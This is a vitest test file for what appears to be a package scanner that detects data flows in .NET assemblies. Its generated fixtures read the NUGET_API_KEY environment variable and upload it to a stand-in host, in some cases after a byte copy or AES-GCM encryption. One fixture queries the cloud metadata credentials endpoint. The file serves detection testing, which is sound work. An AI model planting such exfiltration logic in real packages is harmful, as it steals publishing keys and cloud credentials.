import { describe, expect, it } from 'vitest';
import { method, type InstructionSpec } from '../../kit/cil-assembler/assemble.js';
import { codeAssembly, factsOf, inspectedFiles } from '../rich-package.js';

const runtime = (name: string): string => `[System.Runtime]System.${name}`;
const client = '[System.Net.WebClient]System.Net.WebClient';
const crypto = '[System.Security.Cryptography]System.Security.Cryptography.';
const inside = { instance: true } as const;
const bytes = 'uint8[]';

const upload = method(client, 'UploadData', bytes, ['string', bytes], inside);
const encoding = runtime('Text.Encoding');
const secret: readonly InstructionSpec[] = [
  ['call', method(encoding, 'get_UTF8', `class ${encoding}`)],
  ['ldstr', 'NUGET_API_KEY'],
  ['call', method(runtime('Environment'), 'GetEnvironmentVariable', 'string', ['string'])],
  ['callvirt', method(encoding, 'GetBytes', bytes, ['string'], inside)],
];

/** Sends what stands on the stack, as bytes, after some code of its own. */
async function sent(
  made: readonly InstructionSpec[],
  locals: readonly string[] = [],
): Promise<string[]> {
  const body: InstructionSpec[] = [
    ...made,
    ['stloc', 0],
    ['newobj', method(client, '.ctor', 'void', [], inside)],
    ['ldstr', 'https://collect.example.com/in'],
    ['ldloc', 0],
    ['callvirt', upload],
    ['pop'],
    ['ret'],
  ];
  const methods = [{ name: 'Do', locals: [bytes, ...locals], body }];
  const assembly = codeAssembly([], { types: [{ name: 'Fixture.Thing', methods }] });
  const flows = factsOf(await inspectedFiles({ 'lib/net8.0/Fixture.dll': assembly }), 'flow');
  return flows.map(({ source }) => source.kind);
}

const numbers = (count: number): InstructionSpec[] =>
  Array.from({ length: count }, (): InstructionSpec => ['ldc.i4.0']);
const fresh: readonly InstructionSpec[] = [
  ['ldc.i4', 32],
  ['newarr', runtime('Byte')],
];

describe('what moves data', () => {
  it('as it is', async () => {
    expect(await sent(secret)).toEqual(['environment']);
  });

  it('a copy of bytes into an array', async () => {
    const array = `class ${runtime('Array')}`;
    const copy = method(runtime('Buffer'), 'BlockCopy', 'void', [
      array,
      'int32',
      array,
      'int32',
      'int32',
    ]);
    const made: InstructionSpec[] = [
      ...fresh,
      ['stloc', 1],
      ...secret,
      ['ldc.i4.0'],
      ['ldloc', 1],
      ...numbers(2),
      ['call', copy],
      ['ldloc', 1],
    ];
    expect(await sent(made, [bytes])).toEqual(['environment']);
  });

  it('an authenticated cipher into its output', async () => {
    const type = `${crypto}AesGcm`;
    const make = method(type, '.ctor', 'void', [bytes], inside);
    const encrypt = method(type, 'Encrypt', 'void', [bytes, bytes, bytes, bytes, bytes], inside);
    const made: InstructionSpec[] = [
      ...fresh,
      ['stloc', 1],
      ...fresh,
      ['newobj', make],
      ...fresh,
      ...secret,
      ['ldloc', 1],
      ...fresh,
      ...fresh,
      ['callvirt', encrypt],
      ['ldloc', 1],
    ];
    expect(await sent(made, [bytes])).toEqual(['environment']);
  });

  it('what a web client finds at a metadata service', async () => {
    const made: InstructionSpec[] = [
      ['newobj', method(client, '.ctor', 'void', [], inside)],
      ['ldstr', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'],
      ['callvirt', method(client, 'DownloadData', bytes, ['string'], inside)],
    ];
    expect(await sent(made)).toEqual(['metadata-service']);
  });
});

describe('what moves none', () => {
  it.each([
    ['RSA', 'SignData', 'System.Security.Cryptography.RSA'],
    ['HMACSHA256', 'HashData', 'System.Security.Cryptography.HMACSHA256'],
  ])('%s::%s', async (type, name) => {
    const made: InstructionSpec[] = [
      ...secret,
      ...fresh,
      ['call', method(`${crypto}${type}`, name, bytes, [bytes, bytes])],
    ];
    expect(await sent(made)).toEqual([]);
  });
});
